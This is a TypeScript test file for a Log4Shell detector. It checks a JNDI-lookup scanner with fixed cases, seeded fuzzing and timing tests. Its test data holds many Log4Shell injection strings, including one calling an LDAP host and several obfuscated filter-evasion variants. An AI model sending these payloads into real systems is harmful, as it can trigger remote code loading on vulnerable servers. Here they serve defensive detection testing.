import { describe, expect, test } from "vitest";
import { Random } from "../../../bench/random.ts";
import type { EventLookup } from "../../../host/detect/method/judged-events.ts";
import { Log4ShellDetector } from "../../../host/detect/method/log4shell.ts";
import { holdsJndiLookup } from "../../../host/detect/method/log4shell-scan.ts";
import type { LogEvent } from "../../../host/event/event.ts";
import { readRule } from "../../../host/rule/wire.ts";
import { holdsJndiLookupByRounds, isLog4Shell } from "../../reference/log4shell.ts";
import { LATENESS_MS, methodEvents, playScenario, scenariosOf } from "./harness.ts";
import { playDetector } from "./streams.ts";

const scenarios = scenariosOf("hardcoded");

function lookup(event: EventLookup["event"]): EventLookup {
  return { event, lacks: (slot, text) => !JSON.stringify(event(slot) ?? text).includes(text) };
}

describe.skipIf(!scenarios.length)("hardcoded scenarios (skipped where ../shared is absent)", () => {
  test.each(scenarios.map((scenario) => [scenario.id, scenario.why, scenario] as const))("%s: %s", (_id, _why, scenario) => {
    expect(playScenario(scenario, (rule, eventOf) => new Log4ShellDetector(rule, { allowedLatenessMs: LATENESS_MS, events: lookup(eventOf) }))).toEqual([]);
  });
});

function wrapped(text: string, depth: number): string {
  return "${lower:".repeat(depth) + text + "}".repeat(depth);
}

describe("a JNDI lookup", () => {
  test.each([
    ["GET / ua=${jndi:ldap://203.0.113.5/a}", true],
    ["${JNDI:LDAPS:", true],
    ["${jndi:${lower:l}${lower:d}a${lower:p}://x}", true],
    ["${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x}", true],
    ["${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x}", true],
    ["${${upper:j}ndi:${UPPER:dns}://x", true],
    ["${jnd${upper:ı}:ldap://x}", true],
    ["${jndi:http://x} ", true],
    ["${lower:$}{jndi:nis:x}", true],
    ["$${lower:}{jndi:corba:x}", true],
    ["${a:-${jndi:nds:x}}", true],
    ["${jndi:ldap:x:-y}", true],
    ["${lower:a{b}${jndi:iiop:", true],
    [`\${${wrapped("j", 8)}ndi:ldap:x}`, true],
    [`\${${wrapped("j", 9)}ndi:ldap:x}`, false],
    [`${"x".repeat(100_000)}\${jndi:ldap:x}`, true],
    [`\${${"x".repeat(9000)}:-j}`, false],
    [`\${\${${"x".repeat(9000)}:-j}ndi:ldap:`, true],
    [`\${a:-${"x".repeat(8193)}}`, false],
    ["${jndi:file:///x}", false],
    ["${jndildap:", false],
    ["$ {jndi:ldap:", false],
    ["{jndi:ldap:}", false],
    ["${jndi:ldap", false],
    ["${lower:{}${jndi}:ldap:", false],
    ["", false],
  ])("case %#", (text, expected) => {
    expect(holdsJndiLookup(text)).toBe(expected);
    expect(holdsJndiLookupByRounds(text)).toBe(expected);
  });

  test("is found by the scan where it is found round by round", () => {
    const pieces = ["$", "{", "}", "${", "${lower:", "${upper:", "${::-", "${jndi:", ":-", "jndi:", "ldap:", "j", "ndi", ":", "rmi", "ı", "ß", "}}", "${lower:$}", "${lower:}"];
    let found = 0;
    for (let seed = 1; seed <= 300; seed++) {
      const random = new Random(seed);
      for (let i = 0; i < 200; i++) {
        let text = i & 1 ? "${jndi:ldap:" : "";
        // From a lookup, wrapped here and there, or from nothing but pieces.
        if (text) text = [...text].map((each) => (random.below(4) ? each : random.pick([wrapped(each, random.below(10)), `\${x:-${each}}`, `\${upper:${each}}`, `${each}\${lower:}`]))).join("");
        for (let more = random.below(i & 1 ? 3 : 14); more > 0; more--) {
          const at = random.below(text.length + 1);
          text = text.slice(0, at) + random.pick(pieces) + text.slice(at);
        }
        const expected = holdsJndiLookupByRounds(text);
        if (expected) found++;
        if (holdsJndiLookup(text) !== expected) expect.fail(`seed ${seed}: ${JSON.stringify(text)} is ${expected}`);
      }
    }
    expect(found).toBeGreaterThan(5000);
  });

  test("is looked for in linear time, whatever stands there", () => {
    for (const piece of ["${", "${lower:", "{", "${a:-", "}", "$${lower:}", "${lower:x}", "${x", "${a:-b}{"]) {
      expect(holdsJndiLookup(piece.repeat(200_000))).toBe(false);
      expect(holdsJndiLookup(piece.repeat(100_000) + "}".repeat(100_000))).toBe(false);
    }
  });
});

describe("log4shell and its twin", () => {
  const rule = readRule({
    id: "rule", name: "rule", message: "", isEnabled: true, type: "log_detection", tags: [],
    options: { detectionMethod: "hardcoded", hardcodedEvaluatorType: "log4shell", keepAlive: 3600, maxSignalDuration: 86400 },
    queries: [{ name: "a", query: "source:java", aggregation: "none", groupByFields: ["@u"] }],
    cases: [{ name: "", status: "critical" }],
  });

  test("give the same hits, wherever in the event the text stands", () => {
    for (let seed = 1; seed <= 300; seed++) {
      const random = new Random(seed);
      const text = (): string => random.pick(["hello", "${jndi:ldap:x}", "${${lower:j}ndi:rmi:x}", "${jndi:x}"]);
      let highMs = 0;
      const logs = Array.from({ length: 40 }, (): LogEvent => {
        highMs += random.below(1000);
        const timestamp = highMs - (random.below(4) ? 0 : random.pick([1, LATENESS_MS, LATENESS_MS + 1]));
        const place = random.pick<LogEvent["attributes"]>([{}, { a: text() }, { a: { b: [1, null, { c: text() }] } }, { "${jndi:ldap:x}": 1 }]);
        return { timestamp, source: random.pick(["java", "go"]), message: random.below(3) ? "GET /" : text(), attributes: { ...place, u: [["x"], ["x", "y"], []][random.below(3)]! } };
      });
      const events = methodEvents(rule, logs);
      const expected = events.filter((event) => event.timeMs >= event.highMs - LATENESS_MS && isLog4Shell(event.event))
        .flatMap(({ timeMs, slot, matches }) => matches.map(({ groupKey, group }) => ({ caseIndex: 0, groupKey, group, timeMs, slot, slots: [slot], perQuery: [1], total: 1 })));
      const { hits } = playDetector(events, () => new Log4ShellDetector(rule, { allowedLatenessMs: LATENESS_MS, events: lookup((slot) => events[slot]?.event) }), random);
      expect(hits, `seed ${seed}`).toEqual(expected);
    }
  });

  test("an event that is gone is counted", () => {
    const events = methodEvents(rule, [{ timestamp: 1, source: "java", attributes: { u: "x" } }]);
    const { detector } = playDetector(events, () => new Log4ShellDetector(rule, { allowedLatenessMs: LATENESS_MS, events: lookup(() => undefined) }));
    expect(detector.counts().evicted).toBe(1);
  });
});
